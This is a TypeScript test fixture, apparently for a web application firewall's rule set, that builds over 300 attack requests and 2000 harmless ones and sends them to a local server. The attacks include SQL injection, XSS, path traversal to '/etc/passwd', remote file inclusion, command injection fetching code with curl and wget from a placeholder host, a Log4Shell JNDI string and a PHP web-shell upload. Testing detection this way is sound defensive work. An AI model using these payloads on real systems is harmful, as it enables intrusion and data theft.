import { request as httpRequest, Agent } from 'node:http';
import { connect } from 'node:net';

/** One request to send. `raw` is sent as it stands, by a connection of its own. */
export interface Attack {
  readonly method?: string;
  readonly path: string;
  readonly headers?: Readonly<Record<string, string>>;
  readonly body?: string;
  readonly raw?: (referer: string, client: string) => Buffer;
}

const inParameter = (values: readonly string[]): Attack[] =>
  values.flatMap((value) =>
    ['/search?q=', '/item?id=', '/api/v1/list?sort='].map((prefix) => ({
      path: `${prefix}${encodeURIComponent(value)}`,
    })),
  );
const inBody = (values: readonly string[]): Attack[] =>
  values.map((value) => ({
    method: 'POST',
    path: '/comment',
    headers: { 'content-type': 'application/x-www-form-urlencoded' },
    body: `text=${encodeURIComponent(value)}&x=1`,
  }));

const sqli = [
  "1' or '1'='1",
  '1 union select null,table_name from information_schema.tables--',
  "'; drop table users--",
  '1 and sleep(5)',
  "admin'--",
  "1; exec xp_cmdshell('dir')",
  "' or 1=1 limit 1 -- -",
  'benchmark(10000000,md5(1))',
];
const xss = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  'javascript:alert(document.cookie)',
  '<svg/onload=alert(1)>',
  '<iframe src="javascript:alert(1)">',
  '"><body onload=alert(1)>',
];
const lfi = [
  '../../../../etc/passwd',
  '..%2f..%2f..%2fetc%2fshadow',
  '/etc/passwd',
  '....//....//etc/passwd',
  '/proc/self/environ',
];
const rfi = ['http://198.51.100.7/shell.txt?', 'http://192.0.2.1/c99.php?', 'ftp://203.0.113.1/evil.php'];
const rce = [
  '; cat /etc/passwd',
  '| id',
  '$(curl http://198.51.100.7/a)',
  '`wget http://198.51.100.7/a`',
  '() { :;}; echo vulnerable',
  '& ping -n 1 127.0.0.1',
  'powershell -enc aaaa',
];
const php = [
  '<?php phpinfo(); ?>',
  'php://filter/read=convert.base64-encode/resource=index.php',
  '${@print(md5(1))}',
  'allow_url_include=1',
  'O:8:"stdClass":0:{}',
];
const node = ["require('child_process').exec('id')", 'process.mainModule.require', '_$$ND_FUNC$$_function(){}()'];
const java = [
  '${jndi:ldap://198.51.100.7/a}',
  'java.lang.Runtime.getRuntime().exec("id")',
  'T(java.lang.ProcessBuilder)',
  'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA',
];

const others: readonly Attack[] = [
  ...['sqlmap/1.6', 'Nikto/2.1.6', 'masscan/1.0', 'nmap scripting engine'].flatMap((agent) =>
    ['/', '/login', '/admin'].map((path) => ({ path, headers: { 'user-agent': agent } })),
  ),
  ...['TRACE', 'PROPFIND', 'DELETE', 'PUT'].map((method) => ({ method, path: '/document' })),
  ...['/.git/config', '/wp-config.php.bak', '/.env', '/backup.sql', '/a.old'].map((path) => ({ path })),
  { path: '/x', headers: { 'content-type': 'application/unheard' }, method: 'POST', body: 'a=1' },
  { path: '/x', headers: { 'content-encoding': 'odd' }, method: 'POST', body: 'a=1' },
  { path: '/login?PHPSESSID=abcdef1234567890', headers: { referer: 'http://elsewhere.example/' } },
  { path: '/login?q=.cookie;expires=1;' },
  { path: '/set?lang=en%0d%0aSet-Cookie:%20a=b' },
  { path: '/p?x=%0d%0aHTTP/1.1%20200%20OK' },
  { path: '/p?a=%u0061%u' },
  { path: '/json', method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"a":' },
  {
    path: '/json',
    method: 'POST',
    headers: { 'content-type': 'application/json' },
    body: '{"q":"1\' or 1=1 union select 1"}',
  },
  { path: '/xml', method: 'POST', headers: { 'content-type': 'text/xml' }, body: '<a><b>' },
  {
    path: '/upload',
    method: 'POST',
    headers: { 'content-type': 'multipart/form-data; boundary=XX' },
    body: '--XX\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\n\r\n<?php system($_GET[1]); ?>\r\n--XX--\r\n',
  },
  {
    path: '/upload',
    method: 'POST',
    headers: { 'content-type': 'multipart/form-data; boundary=XX' },
    body: '--XX\r\nContent-Disposition: form-data; name="f\r\n\r\nhalf',
  },
  {
    path: '/upload',
    method: 'POST',
    headers: { 'content-type': 'multipart/form-data; boundary=XX' },
    body: '--XX\r\nContent-Disposition: form-data; name="f"\r\nContent-Type: text/plain; charset=utf-7\r\nContent-Transfer-Encoding: base64\r\n\r\nYQ==\r\n--XX--\r\n',
  },
  ...['/leak/mysql', '/leak/php', '/leak/java'].map((path) => ({ path })),
  ...['/own/page', '/gone/page'].map((path) => ({ path })),
  {
    path: '/login',
    method: 'POST',
    headers: { cookie: "sid=abc; a=1' or 1=1--", authorization: 'Bearer abcdefgh.ijkl' },
    body: 'password=hunter2',
  },
  rawGet('/i.php?\u00ad+d+auto%5fprepend', ''),
  rawGet('http://shop.example/absolute?q=<script>alert(1)</script>', ''),
  rawGet('/twice?q=1%27%20or%201=1--', 'X-Twice: one\r\nX-Twice: two\r\nx-twice: three\r\n'),
  rawGet('/quote"?q=<script>alert("x")</script>', ''),
];

/** Bytes as they stand, one for each character. */
function rawGet(uri: string, headers: string): Attack {
  return {
    path: uri,
    raw: (referer, client) =>
      Buffer.from(
        `GET ${uri} HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: raw\r\nAccept: */*\r\nReferer: ${referer}\r\nX-Real-IP: ${client}\r\n${headers}Connection: close\r\n\r\n`,
        'latin1',
      ),
  };
}

/** At least 300 attacks over all categories that the rule set knows without further configuration. */
export const attacks: readonly Attack[] = [
  ...[sqli, xss, lfi, rfi, rce, php, node, java].flatMap((values) => [...inParameter(values), ...inBody(values)]),
  ...[sqli, xss, rce, java].flatMap((values) =>
    values.flatMap((value) => [
      { path: '/agent', headers: { 'user-agent': value.replaceAll(/[^\x20-\x7e]/g, '') } },
      { path: '/cookie', headers: { cookie: `choice=${encodeURIComponent(value)}` } },
      { path: `/path/${encodeURIComponent(value)}` },
    ]),
  ),
  ...others,
  ...others,
];

export const harmless: readonly Attack[] = Array.from({ length: 2000 }, (_, index) => ({
  path: [`/product/${index % 40}`, '/', '/cart', `/search?q=shoes&page=${index % 7}`, '/style.css'][index % 5] ?? '/',
  ...(index % 9 === 0
    ? { method: 'POST', body: `amount=${index}`, headers: { 'content-type': 'application/x-www-form-urlencoded' } }
    : {}),
}));

/** Sends each request once, a few at a time, in a mixed order; the Referer tells them apart in both logs. */
export async function attack(port: number, requests: readonly Attack[]): Promise<void> {
  const agent = new Agent({ keepAlive: true, maxSockets: 8 });
  const mixed = requests.map((request, index) => ({ request, index, place: (index * 7919) % 10_007 }));
  mixed.sort((left, right) => left.place - right.place);
  const waiting = mixed.values();
  const work = async (): Promise<void> => {
    for (const { request, index } of waiting) {
      const referer = `http://shop.example/from?n=${index}`;
      const client = `203.0.113.${index % 50}`;
      await (request.raw
        ? sendRaw(port, request.raw(referer, client))
        : send({ port, agent, request, referer, client }));
    }
  };
  await Promise.all(Array.from({ length: 8 }, work));
  agent.destroy();
}

function send(options: {
  port: number;
  agent: Agent;
  request: Attack;
  referer: string;
  client: string;
}): Promise<void> {
  const { request } = options;
  return new Promise((resolve, reject) => {
    const sent = httpRequest(
      {
        host: '127.0.0.1',
        port: options.port,
        agent: options.agent,
        method: request.method ?? 'GET',
        path: request.path,
        headers: {
          host: 'shop.example',
          'user-agent': 'shopper/1.0',
          accept: '*/*',
          'x-real-ip': options.client,
          ...request.headers,
          referer: options.referer,
          ...(request.body === undefined ? {} : { 'content-length': Buffer.byteLength(request.body) }),
        },
        timeout: 20_000,
      },
      (answer) => {
        answer.resume();
        answer.on('end', resolve);
        answer.on('error', () => resolve());
      },
    );
    sent.on('timeout', () => sent.destroy(new Error(`no answer to ${request.path}`)));
    // An answer that is stopped in the middle (an outbound rule) breaks the connection.
    sent.on('error', (error: NodeJS.ErrnoException) => (error.code === 'ECONNREFUSED' ? reject(error) : resolve()));
    sent.end(request.body);
  });
}

function sendRaw(port: number, bytes: Buffer): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1', () => socket.write(bytes));
    socket.setTimeout(20_000, () => socket.destroy());
    socket.resume();
    socket.on('error', () => undefined);
    socket.on('close', () => resolve());
  });
}
